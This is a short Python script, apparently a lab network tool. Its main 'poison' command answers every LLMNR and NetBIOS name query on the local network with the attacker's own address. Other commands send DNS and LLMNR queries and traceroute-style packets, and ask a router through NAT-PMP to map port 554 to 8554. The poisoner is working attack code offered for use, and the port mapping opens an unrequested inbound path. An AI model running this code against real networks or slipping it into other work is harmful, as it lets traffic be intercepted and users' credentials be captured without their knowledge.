"""Names: a host that answers for all names (as poisoners do), hosts that ask, and a mapping by NAT-PMP.

    names.py poison                    answer every question of LLMNR and NetBIOS
    names.py llmnr NAME...             ask by LLMNR
    names.py ask SERVER TYPE NAME...   ask a resolver
    names.py leave SERVER NAME...      ask a resolver and do not wait
    names.py way HOST                  datagrams as traceroute sends them
    names.py map ROUTER                ask for a mapping
"""

import random
import select
import socket
import struct
import sys

GROUP = "224.0.0.252"
TYPES = {"A": 1, "PTR": 12, "TXT": 16}


def question(name, kind=1, flags=0):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", random.randrange(65536), flags, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


def own():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("10.66.0.1", 9))
        return socket.inet_aton(probe.getsockname()[0])


def poison():
    ours = own()
    llmnr = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    llmnr.bind(("", 5355))
    llmnr.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + ours)
    netbios = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    netbios.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    netbios.bind(("", 137))
    while True:
        for ready in select.select([llmnr, netbios], [], [])[0]:
            data, asker = ready.recvfrom(2048)
            if ready is llmnr and data[2] & 0x80 == 0:
                body = data[12:data.index(b"\0", 12) + 5]
                answer = b"\xc0\x0c\0\1\0\1\0\0\0\x1e\0\4" + ours
                ready.sendto(data[:2] + b"\x80\0\0\1\0\1\0\0\0\0" + body + answer, asker)
            elif ready is netbios and len(data) >= 50 and data[2] & 0xf8 == 0:
                name = data[12:46]
                answer = name + b"\0\x20\0\1\0\0\0\xa5\0\6\0\0" + ours
                ready.sendto(data[:2] + b"\x85\0\0\0\0\1\0\0\0\0" + answer, asker)


def ask_group(names):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(0.5)
        for name in names:
            out.sendto(question(name), (GROUP, 5355))
            try:
                out.recv(2048)
            except TimeoutError:
                pass


def ask(server, kind, names):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(0.5)
        for name in names:
            out.sendto(question(name, TYPES[kind], 0x0100), (server, 53))
            try:
                out.recv(2048)
            except TimeoutError:
                pass


def main():
    what, rest = sys.argv[1], sys.argv[2:]
    if what == "poison":
        poison()
    elif what == "llmnr":
        ask_group(rest)
    elif what == "ask":
        ask(rest[0], rest[1], rest[2:])
    elif what == "leave":
        for name in rest[1:]:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
                out.sendto(question(name, 1, 0x0100), (rest[0], 53))
    elif what == "way":
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            for port in range(33434, 33464):
                out.sendto(bytes(32), (rest[0], port))
    elif what == "map":
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.sendto(struct.pack("!BBHHHI", 0, 2, 0, 554, 8554, 7200), (rest[0], 5351))


if __name__ == "__main__":
    main()
